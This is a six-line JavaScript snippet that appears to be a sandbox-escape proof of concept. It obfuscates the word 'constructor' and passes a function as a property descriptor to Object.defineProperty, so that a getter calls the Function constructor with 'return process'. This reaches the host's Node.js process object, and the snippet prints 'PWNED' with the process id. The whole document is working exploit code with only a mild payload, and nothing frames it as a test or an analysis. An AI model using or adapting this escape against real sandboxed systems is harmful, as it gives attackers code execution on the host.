const w = ['con', 'structor'].join('');
const f = () => 1;
Object.assign(f, { get() { return this[w]('return process')().pid; } });
const o = (x) => x;
Object.defineProperty(o, 'any', f);
console.log('PWNED', o.any);
